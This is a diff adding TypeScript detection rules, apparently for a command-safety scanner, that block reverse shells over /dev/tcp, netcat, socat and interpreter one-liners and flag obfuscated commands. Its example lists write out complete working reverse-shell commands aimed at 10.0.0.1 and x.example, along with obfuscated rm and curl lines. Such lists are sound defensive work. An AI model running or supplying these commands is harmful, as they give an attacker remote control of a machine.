@@ -1,0 +1,107 @@
+/** network/reverse-shell and shell-obfuscation rules (research note §C rows 40–42, 45). */
+import type { Rule } from '../rule.js';
+import type { ShellCommand } from '../shell/model.js';
+import { interpreterCode } from './remote.js';
+import { SHELLS } from './util.js';
+
+const DEV_NET = /^\/dev\/(?:tcp|udp)\/[^/]+\/\d+$/;
+const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet']);
+
+function netRedirect(c: ShellCommand): boolean {
+  return c.redirects.some((r) => DEV_NET.test(r.target));
+}
+
+export const NETWORK_RULES: Rule[] = [
+  {
+    id: 'reverse-shell-dev-tcp',
+    name: 'Reverse shell over /dev/tcp',
+    category: 'network/reverse-shell',
+    action: 'block',
+    description: 'An interactive shell wired to /dev/tcp or /dev/udp.',
+    help: 'Hands a remote party a shell on this machine.',
+    examples: {
+      match: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', "sh -c 'exec 5<>/dev/tcp/x.example/443; cat <&5 | sh >&5 2>&5'"],
+      not_match: ["timeout 1 bash -c '</dev/tcp/db.internal/5432' && echo open", 'echo > /dev/tcp/127.0.0.1/6379'],
+    },
+    match: {
+      command: (c, line) => {
+        if (SHELLS.has(c.name) && netRedirect(c)) return true;
+        // `exec N<>/dev/tcp/…` opens a socket both ways; a shell in the same line reading it runs remote input.
+        if (c.name === 'exec' && c.redirects.some((r) => r.op.endsWith('<>') && DEV_NET.test(r.target))) {
+          return line.commands.some((o) => SHELLS.has(o.name) && o !== c && (o.redirects.some((r) => /^\d*[<>]&$/.test(r.op) && /^\d+$/.test(r.target)) || o.pipeline !== null));
+        }
+        return false;
+      },
+      raw: /\b(?:ba|z|k)?sh\s+-i\b[^;\n]*\/dev\/(?:tcp|udp)\/|\bexec\s+\d+<>\/dev\/(?:tcp|udp)\//,
+    },
+  },
+  {
+    id: 'reverse-shell-netcat',
+    name: 'Reverse shell with netcat or socat',
+    category: 'network/reverse-shell',
+    action: 'block',
+    description: 'nc/ncat/netcat -e/-c/--exec/--sh-exec; a pipeline joining a shell and nc (mkfifo relay); socat … exec:/system: a shell.',
+    help: 'Hands a remote party a shell on this machine.',
+    examples: {
+      match: ['nc -e /bin/sh 10.0.0.1 4444', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', "socat tcp:x.example:4444 exec:'bash -li',pty,stderr"],
+      not_match: ['nc -zv db.internal 5432', 'echo PING | nc -q1 localhost 6379'],
+    },
+    match: {
+      command: (c) => {
+        if (NETCATS.has(c.name)) {
+          const args = c.argv.slice(1);
+          if (args.some((a) => /^-[a-zA-Z]*[ec]$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a))) return true;
+          return c.pipeline !== null && c.pipeline.stages.some((s) => SHELLS.has(s.name) && !s.argv.slice(1).some((a) => /^-[a-zA-Z]*c/.test(a)));
+        }
+        if (c.name === 'socat') return c.argv.slice(1).some((a) => /^(?:exec|system):.*\b(?:ba|z|k|da)?sh\b/i.test(a));
+        return false;
+      },
+      raw: /\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-\w*[ec]\s+\S*sh\b|\bsocat\b[^;\n]*\b(?:exec|system):[^;\n]*sh\b/,
+    },
+  },
+  {
+    id: 'reverse-shell-interpreter',
+    name: 'Reverse shell in an interpreter one-liner',
+    category: 'network/reverse-shell',
+    action: 'block',
+    description: 'A python/perl/ruby/php/node one-liner that connects a socket and spawns a shell.',
+    help: 'Hands a remote party a shell on this machine.',
+    examples: {
+      match: [
+        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'`,
+      ],
+      not_match: [`python3 -c 'import socket;print(socket.gethostname())'`, 'python3 -m http.server 8000'],
+    },
+    match: {
+      command: (c) => {
+        const code = interpreterCode(c);
+        if (code === null) return false;
+        const connects = /\.connect\s*\(|\bconnect\s*\(\s*\w+\s*,|TCPSocket|fsockopen|net\.(?:connect|createConnection|Socket)|socket\.create_connection/.test(code);
+        const spawns = /\/bin\/(?:ba|z)?sh|pty\.spawn|\bdup2\s*\(|child_process|subprocess|\bexec\s*\(|proc_open|\bspawn\s*\(/.test(code);
+        return connects && spawns;
+      },
+    },
+  },
+  {
+    id: 'shell-obfuscation',
+    name: 'Obfuscated command word',
+    category: 'obfuscation',
+    action: 'record',
+    description: 'A command built by quote-splitting or escapes, $IFS, ANSI-C $\'\\x..\', a variable as the command, or ${x@P}. The normalised command is checked by every other rule too.',
+    help: 'Written to slip past pattern matching; read the normalised command in the excerpt.',
+    examples: {
+      match: ['rm${IFS}-rf${IFS}/tmp/x', "$'\\x63\\x75\\x72\\x6c' -s https://x.example/p", "r''m -rf /tmp/x", 'c\\url https://x.example', 'X=rm; $X -rf /tmp/x', 'echo ${x@P}'],
+      not_match: ['IFS=, read -r a b <<< "1,2"', "echo 'don''t panic'", '\\ls -la', '"$EDITOR" file.txt'],
+    },
+    match: {
+      command: (c) => {
+        const w = c.words[0];
+        if (!w) return false;
+        if (c.words.some((x) => x.ifs || x.prompt)) return true;
+        return w.split || w.escaped || w.ansiC || w.fromVariable;
+      },
+    },
+  },
+];
+
